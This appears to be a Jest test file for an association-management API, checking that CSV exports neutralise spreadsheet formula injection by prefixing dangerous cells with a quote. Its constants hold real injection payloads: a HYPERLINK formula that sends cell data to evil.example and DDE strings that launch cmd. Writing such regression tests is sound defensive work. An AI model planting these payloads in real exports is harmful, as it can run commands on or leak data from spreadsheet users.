import { parse } from 'csv-parse/sync';
import { jalaliYearOf } from '@tashakkol/shared';
import { startApi, TestApi } from '../support/api';
import { createAssociation } from '../support/fixtures';

jest.setTimeout(120_000);

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"جزئیات")';
const CMD = "+cmd|' /C calc'!A0";
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS = "-2+3+cmd|' /C notepad'!A0";

function cells(csv: string): string[][] {
  return parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
}

describe('CSV exports cannot carry spreadsheet formulas (issue 13, finding 4)', () => {
  let api: TestApi;
  let staff: string;
  let president: string;

  beforeAll(async () => {
    api = await startApi();
    [staff, president] = await Promise.all([
      api.userWithRole('staff').then((u) => u.token),
      api.userWithRole('president').then((u) => u.token),
    ]);
  });
  afterAll(() => api.close());

  it('the associations export shows what a board typed as text, not as a formula', async () => {
    const tag = `csvinj${Date.now().toString(36)}`;
    const assoc = await createAssociation(api, { nameFa: `انجمن ${tag}` });
    const board = await api.userWithRole('board', assoc.id);
    const current = await api.get(`/associations/${assoc.id}`, board.token);
    const patched = await api.patch(
      `/associations/${assoc.id}`,
      { version: current.body.version, contact: { phone: CMD, website: HYPERLINK, address: SUM } },
      board.token,
    );
    expect(patched.status).toBe(200);

    const csv = await api.get(`/associations/export?format=csv&q=${tag}`, staff);
    expect(csv.status).toBe(200);
    const [header, row] = cells(csv.body as string);
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell('phone')).toBe(`'${CMD}`);
    expect(cell('website')).toBe(`'${HYPERLINK}`);
    expect(cell('address')).toBe(`'${SUM}`);
    expect(cell('nameFa')).toBe(`انجمن ${tag}`);
    expect(row.every((c) => !/^[=+\-@\t\r]/.test(c) || /^-?\d+(\.\d+)?$/.test(c))).toBe(true);
  });

  it('the supports export neutralises a justification staff typed', async () => {
    const assoc = await createAssociation(api, { phase: 'development' });
    const grant = await api.post(
      `/associations/${assoc.id}/supports`,
      { kindCode: 'rnd_unit', amountRials: '1000000', justification: MINUS },
      staff,
    );
    expect(grant.status).toBe(201);
    const csv = await api.get(
      `/supports/export?format=csv&associationId=${assoc.id}&fiscalYear=${jalaliYearOf(new Date())}`,
      president,
    );
    expect(csv.status).toBe(200);
    const [header, row] = cells(csv.body as string);
    expect(row[header.indexOf('justification')]).toBe(`'${MINUS}`);
    expect(row[header.indexOf('amountRials')]).toBe('1000000');
  });
});
